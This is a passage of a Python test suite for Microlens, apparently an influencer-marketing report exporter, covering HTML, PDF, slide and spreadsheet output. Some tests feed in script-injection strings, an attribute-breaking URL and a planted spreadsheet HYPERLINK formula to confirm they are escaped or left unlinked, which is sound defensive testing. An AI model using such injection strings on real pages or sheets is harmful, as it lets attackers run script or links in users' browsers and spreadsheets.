    column = list(table.columns).index("definition")
    shown = [grid.cell(row, column).text for grid in grids for row in range(1, len(grid.rows))]
    assert [text.split(" ", 1)[0] for text in shown] == [str(i) for i in range(40)]
    for slide, grid in zip(slides, grids):
        shape = next(shape for shape in slide.shapes if shape.has_table)
        assert shape.top + sum(r.height for r in grid.rows) <= FOOTNOTE_TOP
    titles = [slide.shapes.title.text for slide in slides]
    answer = headline_parts(finding)[0]     # the finding's answer, as the PDF heads its pages after the first
    assert not titles[0].endswith(CONTINUED) and titles[1:] == [answer + CONTINUED] * (len(slides) - 1)
    notes = [" ".join(shape.text_frame.text for shape in slide.shapes if shape.has_text_frame) for slide in slides]
    assert all("Continued on the next slide." in n for n in notes[:-1]) and "Continued" not in notes[-1]
    assert not any("Showing the first" in n for n in notes)
    # a table without the flag keeps to one slide and says what it leaves out
    one = Presentation(io.BytesIO(to_pptx([Section("b", "Benchmarks used", finding, None, table)], "T")))
    assert len(one.slides) == 2
    assert any("of 40 rows" in shape.text_frame.text for shape in one.slides[1].shapes if shape.has_text_frame)


def test_a_continued_page_holds_the_rows_its_own_table_fits():
    from microlens.export_model import fitting_rows
    from microlens.export_pdf import PDF_CELL_CHARS, PDF_TABLE_ROWS, PDF_TABLE_TYPE, pdf_columns, table_fit

    # each page prints a table of its own rows, laid out by the browser in widths of its own: measured in the whole
    # table's widths (one 304-character definition on the first page), the appendix's second page held 6 of the 9
    # rows it had room for, two-thirds of it empty
    short = benchmarks_like(30).assign(**{"used for": "Influencer ER tier: Instagram 100k–500k",
                                          "definition": "median ER by followers, (likes+comments)/followers"})
    long = benchmarks_like(1).assign(definition="a figure the brief gives for a post of a celebrity account " * 5)
    fitted = table_fit(pd.concat([long, short], ignore_index=True), 60, 60, 70, max_rows=31)   # every_row
    assert sum(map(len, fitted.pages)) == 31 and len(fitted.pages) >= 2
    alone = fitting_rows(short, PDF_TABLE_ROWS, pdf_columns(short), 70, PDF_TABLE_TYPE, PDF_CELL_CHARS)[0]
    assert len(fitted.pages[1]) == len(alone)


def test_a_long_table_goes_on_over_the_next_pages_with_every_row():
    from microlens.export_pdf import PDF_TABLE_ROWS, PDF_TABLE_SIZES, PDF_TABLE_TYPE, table_fit

    # the benchmarks page showed 12 of 20 rows and cut every definition at 48 characters, a quarter of it empty. In
    # 100 mm a 20-row table of definitions fits no size: it goes on at 10 pt, each page as full as its room allows
    fitted = table_fit(benchmarks_like(20), 100, 120, 110)
    assert [len(rows) for rows in fitted.pages] and sum(map(len, fitted.pages)) == 20 and fitted.note == ""
    assert fitted.size == PDF_TABLE_SIZES[0] and len(fitted.pages) >= 2
    assert all(row[4].endswith("of a celebrity account") for rows in fitted.pages for row in rows)   # whole
    row_mm = PDF_TABLE_TYPE.row_pad + PDF_TABLE_TYPE.line      # a row is at least a line tall
    assert len(fitted.pages[0]) < 120 / row_mm and all(len(rows) < 110 / row_mm for rows in fitted.pages[1:])
    # ...up to PDF_TABLE_ROWS, the rest in the data export
    many = table_fit(benchmarks_like(PDF_TABLE_ROWS + 5), 100, 120, 110)
    assert sum(map(len, many.pages)) == PDF_TABLE_ROWS and f"first {PDF_TABLE_ROWS} of" in many.note


def test_a_long_tables_pages_carry_its_heading_marked_continued_and_the_cover_counts_them():
    table = benchmarks_like(40)
    sections = [Section("bench", "Benchmarks used", "40 benchmark figures; all at their defaults", None, table,
                        "Source: the catalog", every_row=True),
                Section("last", "Roster", "Finding after", None, table.iloc[:2])]
    html_text = report_html(sections, "Report", "", Brand(), [None, None])
    pages = html_text.split('<div class="page section">')[1:]
    continued = [p for p in pages if "40 benchmark figures; all at their defaults (continued)</h1>" in p]
    assert len(pages) == len(continued) + 2 and continued
    assert all("Source: the catalog" not in p for p in pages[:len(continued)])      # sources on its last page
    assert "Source: the catalog" in pages[len(continued)]
    assert sum(p.count("<tr>") - 1 for p in pages[:len(continued) + 1]) == 40     # every row, the header repeated
    # the cover points at each section's first page: the roster comes after every page of the benchmarks
    assert f"p. {len(continued) + 3}</span>" in html_text.split('<div class="page section">')[0]


def test_a_long_table_of_a_section_prints_the_rows_its_page_holds_and_leaves_the_rest_to_the_data_export():
    # a 117-row portfolio took four pages of a 26-page report; the appendix of benchmarks (every_row) prints all
    portfolio = pd.DataFrame({"influencer": [f"account_{i}" for i in range(117)], "platform": "instagram",
                              "band": "micro", "followers": range(20_000, 20_117), "cost": 150.0})
    html_text = report_html([Section("plan", "Plan", "Plan of 117 accounts", None, portfolio, "Source: x"),
                             Section("bench", "Benchmarks used", "117 figures", None, benchmarks_like(117),
                                     "Source: y", every_row=True)], "Report", "", Brand(), [None, None])
    pages = html_text.split('<div class="page section">')[1:]
    plan = [p for p in pages if "Plan of 117 accounts" in p]
    bench = [p for p in pages if "117 figures" in p]
    shown_rows = plan[0].count("<tr>") - 1
    assert len(plan) == 1 and 15 <= shown_rows <= PDF_TABLE_ROWS < 117
    assert f"first {shown_rows} of 117 rows; the data export has all of it" in plan[0]
    assert sum(p.count("<tr>") - 1 for p in bench) == 117 and len(bench) > len(plan)


def test_a_campaigns_page_keeps_the_columns_that_fit_its_width():
    from microlens.export_pdf import PDF_TABLE_COLUMNS, PDF_TABLE_TYPE, pdf_columns

    # a campaigns page showed 8 of 25 columns on an empty page: ROI and revenue minus cost, 10th and 11th, lost
    names = ["campaign", "objective", "cost", "orders", "revenue", "roas", "cpa", "cost_per_lead", "signups", "roi",
             "net_revenue"] + [f"more_{i}" for i in range(14)]
    campaigns = pd.DataFrame({name: [1234.5] * 5 for name in names}).assign(campaign="Spring Glow 2026",
                                                                             objective="sales")
    assert pdf_columns(campaigns) >= 11
    # ...and no more than fit: forty-character cells take the page at four or so
    wide = pd.DataFrame({f"c{i}": ["x" * 40] for i in range(12)})
    assert pdf_columns(wide) == PDF_TABLE_COLUMNS and 5 * 40 > PDF_TABLE_TYPE.width_chars


# --- HTML ---------------------------------------------------------------------------------------------

class _Collector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.urls, self.links, self.tags, self.script_lengths = [], [], [], []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        # what the page loads (a link to follow is no load)
        self.urls += [value for name, value in attrs if (name == "src" or name == "href" and tag != "a") and value]
        self.links += [dict(attrs) for name, value in attrs if tag == "a" and name == "href"]
        if tag == "script":
            self._in_script = True
            self.script_lengths.append(0)

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.script_lengths[-1] += len(data)


def test_html_is_self_contained_and_escaped():
    sections = sample_sections()
    page = to_html(sections, "Q3 <review>", "for <b>client</b>", Brand("Acme", "#E69F00", TINY_PNG))
    parser = _Collector()
    parser.feed(page)
    assert not [u for u in parser.urls if re.match(r"\s*(https?:)?//", u, re.I)]
    assert "link" not in parser.tags
    assert sum(length > 1_000_000 for length in parser.script_lengths) == 1   # the plotly.js bundle
    assert page.count(get_plotlyjs()[:500]) == 1
    assert page.count("Plotly.newPlot(") == 2             # one interactive chart per figure
    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)&lt;/script&gt; leads" in page
    assert "<b>client" not in page and "Q3 &lt;review&gt;" in page
    assert "data:image/png;base64," in page and "--brand: #E69F00" in page
    assert "connect-src" not in page and "default-src 'none'" in page     # CSP blocks every fetch
    assert "Source: brief (unverified)" in page and "select band" in page
    # Each table is under its chart: the data heading follows the chart's div.
    assert page.index('id="chart-1"') < page.index("Data · 3 rows") < page.index('id="section-2"')
    assert sections[0].figure.layout.title.text == "Micro posts cost less"   # figures are not modified


def test_html_drops_nul_characters_from_user_text():
    # a scraped handle or caption with a NUL: html.escape keeps it, and a browser shows it as "�"
    section = dataclasses.replace(sample_sections()[0], finding="Micro\x00 posts cost less")
    page = to_html([section], "Q3\x00", "")
    assert "\x00" not in page and "Micro posts cost less" in page


def test_html_links_every_address_in_a_source_or_a_cell_and_escapes_it():
    # the PDF linked them and the HTML printed them as text to copy by hand
    hostile = 'https://x.example/"><script>alert(1)</script>'
    sources = "Markerly (2016) — https://markerly.com/blog/x; HypeAuditor (2026) — https://hypeauditor.com/r."
    # an address in the uploader's text (a handle, a caption) is no link: only an address column's cells are
    section = Section("s", "Benchmarks", "Two sources", None,
                      pd.DataFrame({"source": ["Markerly", "Evil"], "url": ["https://markerly.com/blog/x", hostile],
                                    "caption": ["see https://planted.example/x", '=HYPERLINK("http://x","y")']}),
                      sources)
    page = to_html([section], "Report")
    parser = _Collector()
    parser.feed(page)
    hrefs = [link["href"] for link in parser.links if not link["href"].startswith("#")]
    assert hrefs[:3] == ["https://markerly.com/blog/x", "https://hypeauditor.com/r",  # the sentence's '.' left out
                         "https://markerly.com/blog/x"] and len(hrefs) == 4
    assert "see https://planted.example/x" in page and not any("planted" in h or h == "http://x" for h in hrefs)
    assert all(link["target"] == "_blank" and "noopener" in link["rel"] for link in parser.links
               if not link["href"].startswith("#"))
    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "https://x.example/" in hrefs[-1] and '"' not in hrefs[-1]      # the link ends at the quote
    # an address ends before the sentence's bracket and mark, and one a cell was cut in is no link
    from microlens.export_model import linked_html
    link = '<a href="{0}" target="_blank" rel="noopener noreferrer">{0}</a>'
    assert linked_html("see (https://digiday.com/x).") == "see (" + link.format("https://digiday.com/x") + ")."
    assert linked_html("https://en.wikipedia.org/wiki/A_(b) then") == link.format(
        "https://en.wikipedia.org/wiki/A_(b)") + " then"
    assert linked_html("https://example.com/influen…") == "https://example.com/influen…"


def test_exported_charts_are_in_the_house_style_and_the_section_figure_is_left_alone():

    fig = go.Figure(go.Bar(x=["a"], y=[2]), layout=dict(title_text="finding"))   # as a figure builder returns it
    theme.source_footnote(fig, "Source: a survey (2024)")
    fig.add_annotation(text="a label on the chart", x="a", y=2)
    out = presentation_figure(fig)
    # exports draw outside the app, which styles figures as it draws them: Plotly's grey default look before
    assert out.layout.template.layout.font.family == theme.FONT
    assert out.layout.template.layout.plot_bgcolor == "white"
    assert out.layout.title.text is None                          # the finding is the heading above the chart
    # the export prints the section's source under the chart: no second copy on it, and the plot gets the room
    assert [a.text for a in out.layout.annotations] == ["a label on the chart"] and out.layout.margin.b is None
    assert fig.layout.title.text == "finding" and fig.layout.template.layout.font.family != theme.FONT
    assert len(fig.layout.annotations) == 2 and fig.layout.margin.b > 110
    # a subtitle the heading already says goes too (a takeover's interval); one that adds to it stays
    fig.update_layout(title_subtitle_text="95% interval +18% to +50%")
    heading = "Instagram takeover posts: +35% engagements per post (95% interval +18% to +50%)"
    assert presentation_figure(fig, heading).layout.title.subtitle.text is None
    assert presentation_figure(fig, "Summer Takeover: lifted").layout.title.subtitle.text == "95% interval +18% to +50%"


# --- Chromium: images, PDF, PPTX ---------------------------------------------------------------------

def test_chromium_path(monkeypatch, tmp_path):
    fake = tmp_path / "chrome"
    fake.write_text("#!/bin/sh\n")
    fake.chmod(0o755)
    monkeypatch.setenv("BROWSER_PATH", str(fake))
    assert chromium_path() == str(fake)
    monkeypatch.setenv("BROWSER_PATH", str(tmp_path / "missing"))
    assert chromium_path() is None                      # no silent fallback from a pinned browser
    monkeypatch.delenv("BROWSER_PATH")
    monkeypatch.setattr(shutil, "which", lambda name: "/opt/bin/chromium-browser"
                        if name == "chromium-browser" else None)
    assert chromium_path() == "/opt/bin/chromium-browser"


def test_missing_chromium_raises_export_unavailable(monkeypatch, tmp_path):
    monkeypatch.setenv("BROWSER_PATH", str(tmp_path / "no-chromium"))
    with pytest.raises(ExportUnavailable, match="BROWSER_PATH.*install the 'chromium' package"):
        figure_image(bar_figure())
    with pytest.raises(ExportUnavailable):
        to_pdf(sample_sections(), "Report")
    with pytest.raises(ExportUnavailable):
        to_pptx(sample_sections(), "Report")
    # A deck of tables only needs no browser.
    deck = Presentation(io.BytesIO(to_pptx([sample_sections()[1]], "Tables only")))
    assert len(deck.slides) == 2


def test_browser_that_does_not_start_raises_export_unavailable(monkeypatch):
    monkeypatch.setenv("BROWSER_PATH", "/bin/false")
    with pytest.raises(ExportUnavailable, match="did not start"):
        figure_image(bar_figure())


def _png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    return struct.unpack(">II", data[16:24])


@chromium
def test_png_and_svg_images():
    pngs = figure_images([bar_figure(), bar_figure("Second")], "png", width=640, height=360, scale=2)
    assert [_png_size(p) for p in pngs] == [(1280, 720), (1280, 720)]
    assert pngs[0] != pngs[1]
    # one PNG alone, as the Present page's download: sharp on a projector, twice its size in pixels
    assert _png_size(figure_image(bar_figure(), width=400, height=300)) == (800, 600)
    svg = figure_image(bar_figure(), "svg", width=400, height=300)
    root = ET.fromstring(svg)
    assert root.tag == "{http://www.w3.org/2000/svg}svg" and root.get("width") == "400"
    assert "Micro posts cost less" in svg.decode()      # a plain image keeps the chart's own title
    with pytest.raises(ValueError, match="not supported"):
        figure_image(bar_figure(), "gif")


@pytest.fixture(scope="module")
def pdf_bytes() -> bytes:
    return to_pdf(sample_sections(), "Q3 review", "For Example Brand", Brand("Acme", "#E69F00", TINY_PNG))


@chromium
def test_pdf_has_title_page_and_one_page_per_section(pdf_bytes, tmp_path):
    assert pdf_bytes.startswith(b"%PDF-")
    assert len(re.findall(rb"/Type\s*/Page(?![s\w])", pdf_bytes)) == 4
    if shutil.which("pdftotext"):
        (tmp_path / "r.pdf").write_bytes(pdf_bytes)

        def page_text(number: int) -> str:
            return subprocess.run(["pdftotext", "-layout", "-f", str(number), "-l", str(number),
                                   str(tmp_path / "r.pdf"), "-"], capture_output=True, text=True,
                                  check=True).stdout
        assert "Q3 review" in page_text(1) and re.search(r"1\s*/\s*4", page_text(1))
        assert "Micro posts cost 13x less per engagement" in page_text(2)
        assert "Source: brief (unverified)" in page_text(2)
        roster = page_text(3)
        assert "<script>alert(1)</script> leads the roster" in roster and "café crème" in roster
        assert "Micro posts cost less" not in page_text(2)   # the chart's own title is not repeated


def test_pdf_cover_lists_every_section_or_says_how_many_more():
    section = sample_sections()[1]
    many = [Section(f"s{i}", "Roster", f"Finding {i}", None, section.table) for i in range(1, 31)]
    cover = report_html(many, "Big report", "", Brand(), [None] * 30).split('<div class="page section">')[0]
    assert re.findall(r"Finding (\d+)<", cover) == [str(i) for i in range(1, 24)]
    assert "… and 7 more sections" in cover and "p. 25–31" in cover   # sections 24-30 on pages 25-31
    cover = report_html(many[:24], "Report", "", Brand(), [None] * 24).split('<div class="page section">')[0]
    assert len(re.findall(r"Finding \d+<", cover)) == 24 and "more sections" not in cover
    # each entry names its section before its answer, which the line may cut
    assert "<strong>Roster</strong> · Finding 1<" in cover
    # ...between words, where it does: cut by the line's end, it read "… costs $0.11 per lik…"
    long = "The median micro-influencer costs $0.11 per like, 2.2× cheaper than the closest celebrity benchmark"
    for two_columns in (True, False):
        entries = [Section("c", "Cost vs celebrity", long, None, section.table)] * (24 if two_columns else 2)
        cover = report_html(entries, "R", "", Brand(), [None] * len(entries)).split('<div class="page section">')[0]
        shown = re.search(r"<strong>Cost vs celebrity</strong> · ([^<]*)<", cover).group(1)
        if two_columns:     # half the page's width: the words that fit, then an ellipsis
            kept = shown.removesuffix(" …")
            assert kept != shown and long.startswith(kept + " ") and len(kept) > 30
        else:
            assert shown == long
    # a title that leaves room for a word or two: the title alone, not "Instagram …"
    title = "Takeover lift: Summer Takeover (06 Jul – 26 Jul 2026), Instagram"
    entries = [Section("t", title, "Instagram takeover posts: +35% engagements per post", None, section.table)] * 24
    cover = report_html(entries, "R", "", Brand(), [None] * 24).split('<div class="page section">')[0]
    assert f"<strong>{title}</strong></span>" in cover and f"<strong>{title}</strong> ·" not in cover


def test_a_decks_headlines_share_one_size():
    from microlens.export_pptx import MIN_FINDING_SIZE, deck_finding_size, finding_size

    # each at its own largest, a deck went 28, 20, 24 pt from slide to slide; now every headline takes the largest
    # size at which all of them fit, and one that needs less than MIN_FINDING_SIZE keeps its own
    short, middle = "Micro posts cost 13x less per engagement", " ".join(["word"] * 26)
    tiny = " ".join(["word"] * 80)
    assert finding_size(short) == 28 and MIN_FINDING_SIZE < finding_size(middle) < 28
    assert finding_size(tiny) < MIN_FINDING_SIZE
    assert deck_finding_size([short, middle]) == finding_size(middle)
    assert deck_finding_size([short, tiny]) == MIN_FINDING_SIZE and deck_finding_size([short]) == 28
    table = pd.DataFrame({"a": [1]})
    deck = Presentation(io.BytesIO(to_pptx([Section(k, k, f, None, table)
                                            for k, f in (("s", short), ("m", middle), ("t", tiny))], "T")))
    sizes = [slide.shapes.title.text_frame.paragraphs[0].runs[0].font.size for slide in list(deck.slides)[1:]]
    assert sizes == [Pt(MIN_FINDING_SIZE)] * 2 + [Pt(finding_size(tiny))]


def test_a_long_finding_steps_down_until_it_fits_above_the_chart():
    from microlens.export_pptx import finding_size

    # 28 pt for a short headline; a viral crawl's finding with both caveats (~380 characters) had run at 20 pt past
    # its box onto the chart
    assert finding_size("Micro posts cost 13x less per engagement") == 28
    lengths = [40, 90, 110, 170, 260, 380, 800]
    sizes = [finding_size(" ".join(["word"] * (n // 5))) for n in lengths]
    assert sizes == sorted(sizes, reverse=True) and sizes[0] == 28 and sizes[-2] <= 16


def test_a_long_qualification_grows_its_box_into_the_charts_room():
    from microlens.export_pptx import (CHART_HEIGHT, CHART_TOP, CONTENT_WIDTH, FINDING_HEIGHT, FINDING_TEXT_HEIGHT,
                                       FINDING_TEXT_WIDTH, MIN_FINDING_SIZE, SMALL_QUALIFY_SIZE, finding_layout,
                                       text_height)

    # the Planner on the real TikTok crawl: the slide showed "33× one celebrity post" and cut the caveat after the
    # first clause, that the chosen accounts were near-viral
    answer = ("At the rate card's prices (none listed or paid), "
              "for $20,000, 36 micro posts from 36 influencers "
              "are expected to earn 1,670,000 engagements, 33× one celebrity post at $20,000 (50,000 engagements)")
    qualified = ("The micro posts' 90% range is 1,380,000–1,950,000, the celebrity's 16,000–83,000 across "
                 "engagement-rate sources; the chosen accounts' median ER of 85% is near the 100% at which an account "
                 "counts as viral, which a new post rarely matches; 34 of the 36 accounts are known from a single post "
                 "(or a list's average). Per like, as Markerly 2016 counts: $0.014 against the celebrity's $0.24, 17× "
                 "cheaper.")
    size, shown, qualify_size, growth = finding_layout(answer, qualified)
    needed = (text_height(answer, MIN_FINDING_SIZE, FINDING_TEXT_WIDTH, bold=True)
              + text_height(qualified, SMALL_QUALIFY_SIZE, FINDING_TEXT_WIDTH))
    assert (size, shown, qualify_size) == (MIN_FINDING_SIZE, qualified, SMALL_QUALIFY_SIZE)
    assert needed > FINDING_TEXT_HEIGHT and growth == needed - FINDING_TEXT_HEIGHT
    deck = Presentation(io.BytesIO(to_pptx([Section("p", "Planner", f"{answer}; {qualified}", go.Figure(go.Bar(y=[1])),
                                                    pd.DataFrame({"a": [1]}))], "T")))
    slide = deck.slides[1]
    assert slide.shapes.title.text_frame.paragraphs[1].text == qualified
    assert slide.shapes.title.height == FINDING_HEIGHT + growth
    (picture,) = [shape for shape in slide.shapes if shape.shape_type == MSO_SHAPE_TYPE.PICTURE]
    # the chart starts under the grown box, as tall as the room left, narrower in proportion, centred
    assert picture.top == CHART_TOP + growth and picture.height == CHART_HEIGHT - growth
    assert abs(picture.width / picture.height - CONTENT_WIDTH / CHART_HEIGHT) < 1e-3
    assert abs((picture.left + picture.width / 2) - deck.slide_width / 2) <= 1


def test_a_long_qualification_does_not_shrink_the_headline_below_20_pt():
    from microlens.export_pptx import MIN_FINDING_SIZE, finding_layout, finding_size

    # a crawl's answer with three caveats under it: the answer ran at 14 pt, the size of the text beneath
    answer = ("The median micro-influencer costs $0.017 per like, 14× cheaper than the closest benchmark "
              "($0.24 per like; all chosen: $0.24–$6.06)")
    # (thirty caveats: more than a grown box holds, test_a_long_qualification_grows_its_box_into_the_charts_room)
    caveat = "caveat number {} about what this rests on and why a client should weigh it"
    caveats = "; ".join(caveat.format(i) for i in range(30))
    qualified = caveats[:1].upper() + caveats[1:] + "."
    assert finding_size(answer, qualified) < MIN_FINDING_SIZE
    size, shown, _, _ = finding_layout(answer, qualified)
    assert size >= MIN_FINDING_SIZE and shown.endswith(" …") and qualified.startswith(shown[:-2])
    assert finding_size(answer, shown) == size
    # a qualification that fits stays whole
    assert finding_layout(answer, "Likes only.")[:2] == (finding_size(answer, "Likes only."), "Likes only.")
    # on the slide: the answer at 20 pt or more, and the whole finding in the speaker notes
    finding = f"{answer}; {caveats}"
    deck = Presentation(io.BytesIO(to_pptx([Section("t", "Table", finding, None, pd.DataFrame({"a": [1]}))], "T")))
    slide = deck.slides[1]
    assert min(r.font.size for r in slide.shapes.title.text_frame.paragraphs[0].runs) >= Pt(MIN_FINDING_SIZE)
    # both paragraphs left-aligned: the qualification took the title layout's centring under a left-aligned answer
    assert [p.alignment for p in slide.shapes.title.text_frame.paragraphs] == [PP_ALIGN.LEFT, PP_ALIGN.LEFT]
    assert finding in slide.notes_slide.notes_text_frame.text


@pytest.fixture(scope="module")
def deck() -> Presentation:
    return Presentation(io.BytesIO(to_pptx(sample_sections(), "Q3 review", "For Example Brand",
                                           Brand("Acme", "#E69F00", TINY_PNG))))


@chromium
def test_pptx_slides(deck):
    assert (deck.slide_width, deck.slide_height) == (Inches(13.333), Inches(7.5))
    assert [s.shapes.title.text for s in deck.slides] == [
        "Q3 review", "Micro posts cost 13x less per engagement", "<script>alert(1)</script> leads the roster",
        "84% of micro posts cost under $250"]
    chart_slide, table_slide = deck.slides[1], deck.slides[2]
    assert {r.font.size for p in chart_slide.shapes.title.text_frame.paragraphs for r in p.runs} == {Pt(28)}
    charts = [s for s in chart_slide.shapes if s.shape_type == MSO_SHAPE_TYPE.PICTURE
              and s.image.content_type == "image/png" and s.width > Inches(5)]
    assert len(charts) == 1 and _png_size(charts[0].image.blob)[0] > 2000
    # a screen reader reads the chart's finding, not "image.png"
    assert charts[0]._element.nvPicPr.cNvPr.get("descr") == "Micro posts cost 13x less per engagement"
    texts = [s.text_frame.text for s in chart_slide.shapes if s.has_text_frame]
    assert "Source: brief (unverified): $20,000–$100,000 per celebrity post" in texts
    # the notes say where the SQL is, not the SQL itself (it filled the presenter's view and went to the client)
    notes = chart_slide.notes_slide.notes_text_frame.text
    assert "select band" not in notes and "The SQL is in the HTML report." in notes
    table = next(s.table for s in table_slide.shapes if s.has_table)
    # labelled and formatted as the app's tables: not the raw 0.031 and snake_case of the data
    assert [table.cell(0, c).text for c in range(4)] == ["Influencer", "Followers", "Engagement rate (by followers)",
                                                         "Posted at"]
    assert [table.cell(r, 0).text for r in range(1, 7)] == HOSTILE
    assert [table.cell(r, 1).text for r in (1, 5)] == ["12,000", "-5"]
    assert [table.cell(r, 2).text for r in (1, 2, 3)] == ["3.1%", "5.2%", "–"]


@chromium
def test_a_control_character_in_a_charted_finding_does_not_fail_the_deck():
    # "Busiest week: Sum\x07mer …" (a campaign's name as its file wrote it) failed the alt text, and the whole deck
    chart = dataclasses.replace(sample_sections()[0], finding="Busiest week: Sum\x07mer 26, 1,234 engagements")
    deck = Presentation(io.BytesIO(to_pptx([chart], "T")))
    picture = next(s for s in deck.slides[1].shapes if s.shape_type == MSO_SHAPE_TYPE.PICTURE and s.width > Inches(5))
    assert picture._element.nvPicPr.cNvPr.get("descr") == "Busiest week: Summer 26, 1,234 engagements"


def test_pptx_notes_name_the_queries_behind_a_slide():
    from microlens.export_pptx import query_pointer

    sql = "-- queries/campaign_results.sql\nSELECT 1\n\n-- queries/campaign_weekly.sql\nSELECT 2"
    # (the deck goes to the client: where the SQL is, in words of the report, not of the app)
    assert query_pointer(sql) == ("Computed by queries/campaign_results.sql, queries/campaign_weekly.sql: the SQL is "
                                  "in the HTML report.")
    assert query_pointer("  ") == ""


# --- the sample data's mark ----------------------------------------------------------------------------------

def test_every_html_section_and_the_cover_say_sample_data_when_marked():
    # a report of the bundled sample read like any client's: "Micro-influencers vs celebrity · 05 December 2026"
    page = to_html(sample_sections(), "Q3 review", "For Example Brand", mark=SAMPLE_MARK)
    cover, *sections = page.split("<section ")
    assert SAMPLE_MARK in cover.split("<nav>")[0] and len(sections) == 3
    assert all(SAMPLE_MARK in s for s in sections)
    assert "sample data bundled with Microlens" in page
    assert SAMPLE_MARK not in to_html(sample_sections(), "Q3 review")


def test_every_sheet_of_a_marked_workbook_says_sample_data_above_its_header():
    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx(sample_sections(), SAMPLE_MARK)))
    first = workbook.worksheets[0]
    assert first["A1"].value == SAMPLE_MARK and first["A1"].font.bold
    assert first["A2"].value == "Band" and first.freeze_panes == "A3"
    assert first.auto_filter.ref.startswith("A2:")      # the filter on the header, not on the mark above it
    assert all(sheet["A1"].value == SAMPLE_MARK for sheet in workbook.worksheets)
    assert openpyxl.load_workbook(io.BytesIO(to_xlsx(sample_sections())))["Cost vs celebrity"]["A1"].value == "Band"
    # every sheet keeps its columns' widths under the mark (a write-only sheet dropped them once a row was written,
    # and the headers read "Influenc", "Platfor"), the About sheet under its title lines too
    for sheet in workbook.worksheets:
        labels = [c.value for c in sheet[2 if sheet.title != "About" else 4] if c.value]
        widths = [sheet.column_dimensions[openpyxl.utils.get_column_letter(i + 1)].width for i in range(len(labels))]
        assert all(w >= min(len(label), 58) for w, label in zip(widths, labels)), (sheet.title, labels, widths)


def test_xlsx_stores_no_float_noise():
    # Campaigns!D4 held 54703.08000000001, hidden by its format but in the formula bar; the CSV writer rounded it
    table = pd.DataFrame({"campaign": ["a"], "revenue": [54703.08000000001], "net_revenue": [-27750.91999999999]})
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx([Section("c", "Campaigns", "f", None, table)])))["Campaigns"]
    assert (sheet["B2"].value, sheet["C2"].value) == (54703.08, -27750.92)


def test_a_marked_chart_image_says_sample_data_under_its_finding():
    from microlens.export import image_figure

    title = image_figure(bar_figure(), "Micro posts cost 13x less", mark=SAMPLE_MARK).layout.title.text
    assert title.index("Micro posts cost 13x less") < title.index(SAMPLE_MARK)
    assert SAMPLE_MARK not in image_figure(bar_figure(), "Micro posts cost 13x less").layout.title.text


def test_an_image_alone_points_to_where_its_sources_are():
    from microlens.export import image_figure

    # "every source is listed under the chart": a downloaded image has nothing under it
    sources = "; ".join(f"Source {i} ({2000 + i}), engagement rate by followers, every size" for i in range(20))
    for own in (True, False):
        fig = bar_figure()
        if own:      # the chart's own footnote (Cost vs celebrity's), or the section's source added by the export
            theme.source_footnote(fig, sources)
        image = image_figure(fig, "Micro posts cost 13x less", source="" if own else sources)
        (note,) = [a.text for a in image.layout.annotations if a.name == theme.FOOTNOTE]
        assert note.endswith(theme.MORE_SOURCES_ELSEWHERE) and theme.MORE_SOURCES not in note
        assert fig.layout.annotations == () or fig.layout.annotations[0].text.endswith(theme.MORE_SOURCES)


@chromium
def test_every_page_and_slide_of_a_marked_pdf_and_deck_says_sample_data(tmp_path):
    pdf = tmp_path / "r.pdf"
    pdf.write_bytes(to_pdf(sample_sections(), "Q3 review", "For Example Brand", mark=SAMPLE_MARK))
    if shutil.which("pdftotext"):
        for number in range(1, 5):
            text = subprocess.run(["pdftotext", "-f", str(number), "-l", str(number), str(pdf), "-"],
                                  capture_output=True, text=True, check=True).stdout
            assert " ".join(text.split()).count(SAMPLE_MARK) >= 1, number
    deck = Presentation(io.BytesIO(to_pptx(sample_sections(), "Q3 review", "For Example Brand", mark=SAMPLE_MARK)))
    for slide in deck.slides:
        assert any(s.has_text_frame and s.text_frame.text == SAMPLE_MARK for s in slide.shapes)
    # the cover's count as the page and the PDF say it
    assert any(s.has_text_frame and s.text_frame.text.endswith("· 3 sections") for s in deck.slides[0].shapes)


def test_a_plain_statistic_shows_three_significant_figures_and_a_score_two_decimals():
    # the price outliers' robust z read -3.31494, 2.50977, 1.9532 on a client's slide; then "-3.31" beside "1.5"
    from microlens import columns

    assert [columns.formatted(v, columns.NUMBER) for v in (-3.31494, 2.50977, 0.000123, 12345.678, 7.0)] == [
        "-3.31", "2.51", "0.000123", "12,346", "7"]
    z = pd.Series([-3.31494, 1.5, -1.1])
    assert columns.kind("robust_z", z) == columns.SCORE and columns.label("robust_z") == "How unusual"
    assert [columns.formatted(v, columns.SCORE) for v in z] == ["-3.31", "1.50", "-1.10"]
    # and in Excel a number shown with two decimals, not 15
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx([Section("p", "Prices", "f", None,
                                                              pd.DataFrame({"robust_z": z}))])))
    cell = book["Prices"].cell(2, 1)
    assert cell.value == pytest.approx(-3.31494) and cell.number_format == "0.00"


def test_excel_writes_platforms_as_the_pdf_does():
    # the sheet had the stored "instagram" where the PDF and slides said "Instagram"
    table = pd.DataFrame({"influencer": ["ana", "ben", "cat"], "platform": ["instagram", "tiktok", None]})
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx([Section("s", "Shortlist", "f", None, table)])))
    assert [c.value for c in book["Shortlist"]["B"]] == ["Platform", "Instagram", "TikTok", None]


def test_html_tables_keep_text_columns_readable_and_scroll_sideways():
    # "Cost from" shrank to its longest word (five lines a row) and the sensitivity table was cut at the page's edge
    cost_from = "rate card × followers (no fee, no price)"
    table = pd.DataFrame({"influencer": ["a", "b"], "cpe": [0.01, 0.02], "cost_from": [cost_from, "fees paid"],
                          "citation": ["x " * 150, "y"]})
    page = to_html([Section("s", "Shortlist", "finding", None, table, "")], "t")
    heads = re.findall(r"<th([^>]*)>([^<]*)</th>", page)
    least = {label: re.search(r"min-width: calc\((\d+)ch", attrs) for attrs, label in heads}
    assert int(least["Cost from"].group(1)) >= len(cost_from) // 3           # at most three lines
    assert 300 // 6 >= int(least["Citation"].group(1)) > 16                  # a long text wraps, in a column of its own
    assert least["Cost per engagement"] is None                              # numbers never wrap: no floor needed
